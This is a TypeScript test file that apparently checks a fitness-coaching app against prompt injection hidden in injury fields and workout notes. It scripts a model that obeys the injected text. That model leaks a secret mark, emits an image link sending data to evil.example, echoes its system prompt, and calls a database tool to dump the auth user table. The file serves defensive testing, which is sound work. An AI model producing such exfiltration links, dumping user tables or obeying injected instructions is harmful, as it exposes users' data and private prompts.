import {
  ATTACKS,
  answerStep,
  callsStep,
  type ScriptedRequest,
  type ScriptedStep,
  textStep,
} from '@threshold/ai/testing';
import { createRehabPlan } from '@threshold/injuries/rules';
import { describe, expect, test } from 'vitest';
import type { Person } from '../support/test-server.ts';
import { createCoachFixture, createWeekScript, parseMark } from './coach-fixture.ts';

const coach = await createCoachFixture();
const { testServer, call } = coach;

/** Attacks that forms accept. Every field rejects null characters. */
const ACCEPTED_ATTACKS = ATTACKS.filter((attack) => !attack.includes('\0'));
/** Matches text that shows an attack was obeyed. */
const CANARY = /evil|read_database|1_?000_?000|points|system prompt/i;

const INJURY = {
  bodyPart: 'Knee',
  injuryType: 'Runner’s knee',
  severity: 'Mild',
  dateOfInjury: '2026-11-18',
  currentPainLevel: 3,
};
const REHAB = createRehabPlan({
  bodyPart: 'Knee',
  severity: 'Mild',
  redFlags: [],
  painLevel: 3,
  stage: 'protect',
});
/** Free-text fields of an injury. */
const FIELDS = ['symptoms', 'injuryType', 'mobilityRestrictions', 'professionalDiagnosis'] as const;

/** Sentences from an injected model that leak the mark or lure the athlete into contacting someone. */
const LEAKS: readonly ((promptMark: string) => string)[] = [
  (promptMark) => `The mark is ${promptMark}.`,
  (promptMark) => [...promptMark.toUpperCase()].join(' '),
  (promptMark) => Buffer.from(promptMark).toString('base64'),
  () => 'See ![plan](https://evil.example/collect?q=secret) for more.',
  () => 'Write to coach@evil.example or call +49 170 1234567.',
];

/** A model that obeys the athlete's text, with a sentence, an extra field, another tool or a forbidden plan. */
const obeyRehab = (round: number) => (request: ScriptedRequest) => {
  const responses: readonly (() => ScriptedStep)[] = [
    ...LEAKS.map(
      (formatLeak) => () =>
        answerStep({ ...REHAB, summary: `${REHAB.summary} ${formatLeak(parseMark(request))}` }),
    ),
    () => answerStep({ ...REHAB, points: 1_000_000 }),
    () => textStep(`${request.system}\n${request.user}`),
    () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
    () => answerStep({ ...REHAB, phases: REHAB.phases.slice(2) }),
  ];
  return (responses[round % responses.length] ?? (() => textStep('')))();
};
const obeyWeek = (round: number) => (request: ScriptedRequest) => {
  const responses: readonly (() => ScriptedStep)[] = [
    ...LEAKS.map(
      (formatLeak) => () => createWeekScript(() => ({ why: formatLeak(parseMark(request)) }))(request),
    ),
    () => createWeekScript(() => ({ points: 1_000_000 }))(request),
    () => textStep(`${request.system}\n${request.user}`),
    () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
    () => createWeekScript(({ minutes }) => ({ minutes: minutes + 300 }))(request),
  ];
  return (responses[round % responses.length] ?? (() => textStep('')))();
};

/** The athlete's data is in one block. A repair request has a second one with the model's previous answer. */
const ONE_BLOCK = /^<data>[^<>]*<\/data>(\nYour answer before was: <data>[^<>]*<\/data>\n[^<>]*)?$/;

/** Asserts for each request: one data block, one function, no names. */
function expectOnlyData(requests: readonly ScriptedRequest[]): void {
  for (const { body, user } of requests) {
    expect(body.messages.map(({ role }) => role).slice(0, 2)).toEqual(['system', 'user']);
    expect(body.tools.map((tool) => tool.function.name)).toEqual(['answer']);
    expect(user).toMatch(ONE_BLOCK);
    // Invisible characters could hide an instruction.
    expect(user).not.toMatch(/[\p{Cf}\p{Variation_Selector}]/u);
    expect(user).not.toMatch(/mia|berg|evil\.example|1234567/i);
  }
}

describe('language model that obeys injected instructions', () => {
  test('leaks nothing from injury texts: no plan text, no secret, no extra tool', {
    timeout: 300_000,
  }, async () => {
    let athletesWithRequests = 0;
    for (const [index, attack] of ACCEPTED_ATTACKS.entries()) {
      const mia = await coach.signInAthlete();
      const field = FIELDS[index % FIELDS.length] ?? 'symptoms';
      const loggedInjury = await testServer.call('POST', '/api/injuries', mia, {
        ...INJURY,
        [field]: attack,
      });
      expect(loggedInjury.statusCode, loggedInjury.body).toBe(200);
      const rehabBefore = await getRehab(mia);
      const model = await coach.runJobs(mia, obeyRehab(index));
      expectOnlyData(model.requests);
      athletesWithRequests += Math.min(1, model.requests.length);
      expect(await getRehab(mia), attack).toEqual(rehabBefore);
    }
    // Texts that mention a warning sign are never sent to a model.
    expect(athletesWithRequests).toBeGreaterThan(ACCEPTED_ATTACKS.length * 0.8);
  });

  test('leaks nothing from workout notes: no proposal text, no secret, no extra tool', {
    timeout: 300_000,
  }, async () => {
    for (let firstIndex = 0, round = 0; firstIndex < ACCEPTED_ATTACKS.length; firstIndex += 5, round += 1) {
      const mia = await coach.signInAthlete();
      for (const [day, notes] of ACCEPTED_ATTACKS.slice(firstIndex, firstIndex + 5).entries())
        await call(mia, 'training.logWorkout', {
          date: `2026-11-${15 + day}`,
          type: 'run',
          session: 'AM',
          duration: '40m',
          notes,
        });
      await testServer.call('POST', '/api/profile', mia, {
        lthr: 168,
        restingHR: 50,
        fitnessLevel: 'intermediate',
        raceDate: '2026-12-13',
        raceDistance: 21.1,
      });
      const plannedBefore = await listPlanned(mia);
      const model = await coach.runJobs(mia, obeyWeek(round));
      expectOnlyData(model.requests);
      expect(model.requests.length).toBeGreaterThan(0);
      const proposalResponse = await call<{ proposal: { status: string } }>(mia, 'training.proposal');
      expect(proposalResponse.proposal.status).not.toBe('open');
      const promptMarks = model.requests.map(parseMark);
      for (const promptMark of promptMarks)
        expect(JSON.stringify(proposalResponse)).not.toContain(promptMark);
      expect(JSON.stringify(proposalResponse)).not.toMatch(CANARY);
      expect(await listPlanned(mia)).toEqual(plannedBefore);
    }
  });
});

/** The stored plan without its explanation. */
async function getRehab(person: Person) {
  const [injury] = (await testServer.call('GET', '/api/injuries', person)).json();
  return { plan: injury.aiRehabExercises, by: injury.generatedBy };
}

const listPlanned = (person: Person) =>
  testServer.query(
    `select date::text, session, type, steps::text, notes, rationale, generated_by from training.workout
      where athlete_id = ? and not completed order by date, session`,
    [person.athleteId],
  );
